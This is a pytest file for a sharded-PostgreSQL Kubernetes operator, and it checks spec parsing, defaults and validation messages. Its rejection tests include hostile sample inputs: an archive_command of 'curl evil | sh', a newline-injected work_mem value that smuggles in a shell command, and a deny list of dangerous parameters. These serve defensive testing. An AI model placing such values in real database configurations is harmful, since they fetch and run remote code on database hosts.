"""Parsing ShardedCluster specs: defaults equal the CRD's, every problem is named."""

from __future__ import annotations

from typing import Any

import pytest

from pgshard_operator.model import spec as specs
from pgshard_operator.shard import policy
from tests.support import crd


def test_empty_spec_gets_the_design_defaults() -> None:
    parsed = specs.parse_spec({})
    assert parsed == specs.ClusterSpec()
    assert (parsed.shards, parsed.replicas_per_shard, parsed.members_per_shard) == (2, 2, 3)
    assert parsed.method is specs.ReplicationMethod.WAL
    assert parsed.policy == policy.ShardPolicy()
    assert parsed.policy.replication.mode is policy.ReplicationMode.ASYNC
    failover = parsed.policy.failover
    assert (failover.enabled, failover.detection_seconds, failover.cooldown_seconds) == (
        True,
        10,
        60,
    )
    assert parsed.proxy.replicas == 2
    assert parsed.proxy.consistency is specs.Consistency.SESSION


def test_defaults_equal_the_crd_defaults() -> None:
    """One truth: what the API server fills in parses to what the parser assumes."""
    defaulted = crd.apply_defaults(crd.root_schema(), crd.cluster({}))["spec"]
    assert specs.parse_spec(defaulted) == specs.parse_spec({})


def test_full_spec() -> None:
    parsed = specs.parse_spec(
        {
            "shards": 3,
            "replicasPerShard": 1,
            "image": "pgshard:dev",
            "postgres": {"parameters": {"work_mem": "8MB", "max_connections": 200}},
            "resources": {"requests": {"cpu": "500m"}, "limits": {"memory": "1Gi"}},
            "storage": {"size": "5Gi", "storageClass": "fast"},
            "replication": {"method": "wal", "mode": "quorum", "quorum": 1},
            "sharding": {"tables": [{"name": "orders", "key": "customer_id"}]},
            "failover": {"enabled": False, "maxLagBytes": 1024},
            "proxy": {"replicas": 3, "consistency": "strong", "maxWaitMs": 20, "workers": 2},
        }
    )
    assert parsed.postgres.parameters == (("max_connections", "200"), ("work_mem", "8MB"))
    assert parsed.resources.to_k8s() == {"requests": {"cpu": "500m"}, "limits": {"memory": "1Gi"}}
    assert parsed.storage == specs.StorageSpec("5Gi", "fast")
    assert parsed.method is specs.ReplicationMethod.WAL
    assert parsed.policy.replication == policy.ReplicationSettings(policy.ReplicationMode.QUORUM, 1)
    assert parsed.sharding.tables == (specs.ShardedTable("orders", "customer_id"),)
    assert parsed.policy.failover.max_lag_bytes == 1024
    assert not parsed.policy.failover.enabled
    assert parsed.proxy == specs.ProxySpec(3, specs.Consistency.STRONG, 20, specs.Resources(), 2)


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("nope", "spec: must be an object, got str"),
        ({"shards": 0}, "spec.shards: must be between 1 and 64, got 0"),
        ({"shards": True}, "spec.shards: must be an integer, got True"),
        ({"postgres": {"version": 14}}, "spec.postgres.version: 14 is not supported; use 15"),
        (
            {"postgres": {"parameters": {"port": 1, "listen_addresses": "*"}}},
            "spec.postgres.parameters: listen_addresses, port may not be set",
        ),
        (
            {"postgres": {"parameters": {"fsync": False}}},
            "spec.postgres.parameters.fsync: must be a string or an integer, got False",
        ),
        (  # PostgreSQL's names are case-insensitive: so is the deny list
            {"postgres": {"parameters": {"Port": 1, "SYNCHRONOUS_STANDBY_NAMES": "*"}}},
            "spec.postgres.parameters: Port, SYNCHRONOUS_STANDBY_NAMES may not be set",
        ),
        (
            {"postgres": {"parameters": {"synchronous_commit": "off"}}},
            "spec.postgres.parameters: synchronous_commit may not be set",
        ),
        (
            {"postgres": {"parameters": {"archive_command": "curl evil | sh"}}},
            "spec.postgres.parameters: archive_command may not be set",
        ),
        (
            {"postgres": {"parameters": {"shared_preload_libraries": "x"}}},
            "spec.postgres.parameters: shared_preload_libraries may not be set",
        ),
        (
            {"postgres": {"parameters": {"work_mem": "8MB'\narchive_command = 'sh -c x"}}},
            "spec.postgres.parameters.work_mem: the value of work_mem must be one line",
        ),
        (
            {"postgres": {"parameters": {"work_mem = 1\nport": "5"}}},
            "spec.postgres.parameters: 'work_mem = 1\\nport' is not a PostgreSQL parameter name",
        ),
        ({"storage": {"size": "big"}}, "spec.storage.size: 'big' is not a Kubernetes quantity"),
        (
            {"replication": {"mode": "semi"}},
            "spec.replication.mode must be one of async|sync|quorum, got 'semi'",
        ),
        ({"replication": {"mode": "quorum"}}, "spec.replication.quorum: is required"),
        ({"replication": {"quorum": 2}}, "spec.replication.quorum: is only used with mode"),
        (
            {"sharding": {"tables": [{"name": "t"}]}},
            "spec.sharding.tables[0]: needs both name and key",
        ),
        (
            {"sharding": {"tables": [{"name": "t", "key": "a"}, {"name": "t", "key": "b"}]}},
            "spec.sharding.tables[1]: table 't' is listed twice",
        ),
        (
            {"sharding": {"referenceTables": ["countries"]}},
            "spec.sharding.referenceTables: reference tables are not supported yet",
        ),
        ({"failover": {"enabled": "yes"}}, "spec.failover.enabled must be true or false"),
        ({"failover": {"detectionSeconds": 0}}, "spec.failover.detectionSeconds must be"),
        ({"proxy": {"consistency": "x"}}, "spec.proxy.consistency: 'x' is not one of session"),
        (
            {"proxy": {"resources": {"limits": {"cpu": "lots"}}}},
            "spec.proxy.resources.limits.cpu: 'lots' is not a Kubernetes quantity",
        ),
    ],
)
def test_problems_name_the_field(raw: Any, expected: str) -> None:
    with pytest.raises(specs.SpecInvalid) as err:
        specs.parse_spec(raw)
    assert any(p.startswith(expected) for p in err.value.problems), err.value.problems


def test_failover_buffering_is_off_unless_asked_for() -> None:
    """``proxy.bufferOnFailover`` (issue 14): off by default; on, the shard managers
    announce a decided failover for the proxies' own window (bufferWindowMs)."""
    default = specs.parse_spec({})
    assert default.proxy.buffer_on_failover is False
    assert default.policy.failover_buffer_seconds == 0
    on = specs.parse_spec({"proxy": {"bufferOnFailover": True}})
    assert on.proxy.buffer_on_failover is True
    assert on.policy.failover_buffer_seconds == specs.PROXY_BUFFER_WINDOW_MS / 1000
    window = specs.parse_spec({"proxy": {"bufferOnFailover": True, "bufferWindowMs": 1500}})
    assert window.policy.failover_buffer_seconds == 1.5
    # Everything else in the policy is kept.
    kept = specs.parse_spec({"proxy": {"bufferOnFailover": True}, "failover": {"enabled": False}})
    assert kept.policy.failover.enabled is False


@pytest.mark.parametrize(
    ("proxy", "expected"),
    [
        ({"bufferOnFailover": "yes"}, "spec.proxy.bufferOnFailover: must be true or false"),
        (
            {"bufferOnFailover": True, "bufferWindowMs": 0},
            "spec.proxy.bufferOnFailover: needs holding on (bufferWindowMs is 0",
        ),
    ],
)
def test_failover_buffering_problems(proxy: dict[str, Any], expected: str) -> None:
    with pytest.raises(specs.SpecInvalid) as err:
        specs.parse_spec({"proxy": proxy})
    assert any(p.startswith(expected) for p in err.value.problems), err.value.problems


def test_every_problem_is_reported_at_once() -> None:
    with pytest.raises(specs.SpecInvalid) as err:
        specs.parse_spec({"shards": -1, "replicasPerShard": 99, "proxy": {"replicas": 0}})
    assert len(err.value.problems) == 3
    assert "spec.replicasPerShard" in str(err.value)


def test_impossible_specs_are_explained() -> None:
    assert specs.impossibilities(specs.parse_spec({}), "c") == ()
    quorum = specs.parse_spec(
        {"replicasPerShard": 1, "replication": {"mode": "quorum", "quorum": 2}}
    )
    (problem,) = specs.impossibilities(quorum, "c")
    assert "needs 2 follower confirmation(s) per commit but the shard has only 1" in problem
    sync = specs.parse_spec({"replicasPerShard": 0, "replication": {"mode": "sync"}})
    (problem,) = specs.impossibilities(sync, "c")
    assert "spec.replication.mode needs 1 follower confirmation(s)" in problem


def test_priorities_must_name_pods_of_the_cluster() -> None:
    ok = {"c-shard-1-0": 5, "c_shard_0_2": 1, "c-shard-0-9": 3}  # member form, removed pod
    assert (
        specs.impossibilities(specs.parse_spec({"shards": 2, "failover": {"priorities": ok}}), "c")
        == ()
    )
    bad = {"c-shard-2-0": 1, "other-shard-0-0": 1, "c-shard-0-x": 1}
    spec = specs.parse_spec({"shards": 2, "failover": {"priorities": bad | ok}})
    (problem,) = specs.impossibilities(spec, "c")
    assert "'c-shard-0-x', 'c-shard-2-0', 'other-shard-0-0'" in problem
    assert "c-shard-<shard>-<n> with a shard below 2" in problem


def test_parser_agrees_with_the_crd() -> None:
    """What the CRD accepts parses; what it refuses, the parser refuses too."""
    from tests.unit.test_crd import INVALID, VALID

    for sample in VALID:
        specs.parse_spec(sample)
    for sample, _, _ in INVALID:
        with pytest.raises(specs.SpecInvalid):
            specs.parse_spec(sample)


def test_statement_replication_in_every_mode_publishes_the_proxy_wait() -> None:
    """Statement mode runs on Kubernetes (the managers read positions as log sequence
    numbers). Sync and quorum are the proxy's wait for the appliers (``statementAcks``):
    the shard managers run async (no synchronous_standby_names), as locally."""
    spec = specs.parse_spec({"replication": {"method": "statement"}})
    assert spec.method is specs.ReplicationMethod.STATEMENT
    assert spec.policy.replication.statement
    assert spec.statement_acks == 0
    assert not specs.parse_spec({}).policy.replication.statement
    assert crd.problems(crd.cluster({"replication": {"method": "statement"}})) == []
    for mode, acks in (({"mode": "sync"}, 1), ({"mode": "quorum", "quorum": 2}, 2)):
        raw = {"replication": {"method": "statement", **mode}}
        assert crd.problems(crd.cluster(raw)) == [], mode
        spec = specs.parse_spec(raw)
        assert spec.statement_acks == acks
        assert spec.manager_policy.replication.mode is policy.ReplicationMode.ASYNC
        assert spec.manager_policy.replication.statement
        wal = specs.parse_spec({"replication": mode})
        assert wal.statement_acks == 0
        assert wal.manager_policy == wal.policy
